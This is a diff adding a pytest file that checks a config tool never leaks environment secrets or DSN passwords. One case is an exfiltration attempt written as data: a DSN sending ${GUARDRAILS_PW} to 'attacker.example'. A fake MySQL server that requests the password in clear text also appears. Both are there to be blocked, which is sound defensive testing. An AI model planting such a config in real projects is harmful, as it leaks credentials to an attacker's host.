@@ -1,0 +1,118 @@
+"""Issue 12, the repository's own config: ``${VAR}`` never carries a secret into output or to a
+server the pull request picks, and the DSN's password never shows, however it is written."""
+
+from __future__ import annotations
+
+import socket
+import struct
+import threading
+
+import pytest
+
+from guardrails.mysql.dsn import DsnError, parse_dsn
+from guardrails.mysql.runner import DatabaseError, ExplainRunner
+from tests.helpers import Repo, guardrails
+
+TOKEN = "ghs_workflowTokenNeverPrinted42"
+
+
+def _run(repo: Repo, config: str, **env: str) -> tuple[int, str]:
+    repo.write(".guardrails.yml", config)
+    repo.write("q.sql", "SELECT 1;\n")
+    repo.commit("config")
+    result = guardrails(repo.root, "run", env={"GITHUB_TOKEN": TOKEN, "GUARDRAILS_PW": TOKEN, **env})
+    return result.code, result.stdout + result.stderr
+
+
+@pytest.mark.parametrize(
+    ("config", "expected"),
+    [
+        (
+            "version: 1\npull_request:\n  checklist: ['${GITHUB_TOKEN}']\n",
+            ".guardrails.yml:3: pull_request.checklist.0: ${VAR} is expanded only in database.dsn",
+        ),
+        (
+            "version: 1\ndatabase:\n  dsn: mysql://x:${GITHUB_TOKEN}@127.0.0.1:3306/db\n",
+            ".guardrails.yml:3: database.dsn: ${GITHUB_TOKEN} is not expanded: only GUARDRAILS_* variables",
+        ),
+        (
+            "version: 1\ndatabase:\n  dsn: mysql://x:${GUARDRAILS_PW}@attacker.example:3306/db\n",
+            "database.dsn: sends ${VAR} to host 'attacker.example' named in the config",
+        ),
+        ("version: 1\nextends: ${GUARDRAILS_PW}\n", "extends: '${GUARDRAILS_PW}' is not one of"),
+    ],
+)
+def test_config_variables_never_reach_output_or_a_chosen_server(repo: Repo, config: str, expected: str) -> None:
+    code, output = _run(repo, config)
+    assert code == 2
+    assert expected in output, output
+    assert TOKEN not in output
+
+
+def test_the_workflow_may_allow_a_variable_and_a_host(repo: Repo) -> None:
+    config = "version: 1\ndatabase:\n  dsn: mysql://x:${DB_PASSWORD}@db.internal:1/app\n"
+    code, output = _run(repo, config, DB_PASSWORD=TOKEN, GUARDRAILS_ENV_ALLOW="DB_PASSWORD")
+    assert code == 2 and "named in the config" in output
+    code, output = _run(
+        repo, config, DB_PASSWORD=TOKEN, GUARDRAILS_ENV_ALLOW="DB_PASSWORD", GUARDRAILS_DSN_HOSTS="db.internal"
+    )
+    assert code == 0, output
+    assert TOKEN not in output
+
+
+@pytest.mark.parametrize("password", ["s%2fecret%3a9", "s%2Fecret%3A9", "s/ecret:9"])
+def test_a_wrong_scheme_error_masks_the_password_however_it_is_escaped(password: str) -> None:
+    with pytest.raises(DsnError) as error:
+        parse_dsn(f"postgres://app:{password}@h:3306/db")
+    assert "ecret" not in str(error.value) and "postgres://app:***@h:3306/db" in str(error.value)
+
+
+def _fake_server(received: list[bytes]) -> int:
+    """A server that asks for mysql_clear_password after the handshake and records what it gets."""
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(1)
+
+    def packet(seq: int, payload: bytes) -> bytes:
+        return struct.pack("<I", len(payload))[:3] + bytes([seq]) + payload
+
+    def serve() -> None:
+        conn, _ = listener.accept()
+        conn.settimeout(5)
+        caps = 0x1 | 0x8 | 0x200 | 0x8000 | 0x80000
+        hello = (
+            b"\x0a5.7.99-fake\x00"
+            + struct.pack("<I", 7)
+            + b"abcdefgh\x00"
+            + struct.pack("<H", caps & 0xFFFF)
+            + b"\x21"
+            + struct.pack("<H", 2)
+            + struct.pack("<H", caps >> 16)
+            + b"\x15"
+            + b"\x00" * 10
+            + b"ijklmnopqrst\x00"
+            + b"mysql_native_password\x00"
+        )
+        try:
+            conn.sendall(packet(0, hello))
+            received.append(conn.recv(65536))
+            conn.sendall(packet(2, b"\xfemysql_clear_password\x00"))
+            received.append(conn.recv(65536))
+        except OSError:
+            pass
+        finally:
+            conn.close()
+            listener.close()
+
+    threading.Thread(target=serve, daemon=True).start()
+    return int(listener.getsockname()[1])
+
+
+def test_a_server_asking_for_the_password_in_clear_text_does_not_get_it() -> None:
+    received: list[bytes] = []
+    port = _fake_server(received)
+    with pytest.raises(DatabaseError) as error, ExplainRunner(f"mysql://app:{TOKEN}@127.0.0.1:{port}/db") as runner:
+        _ = runner.server
+    assert "clear text" in str(error.value)
+    assert received, "the fake server saw no client"
+    assert not any(TOKEN.encode() in data for data in received)
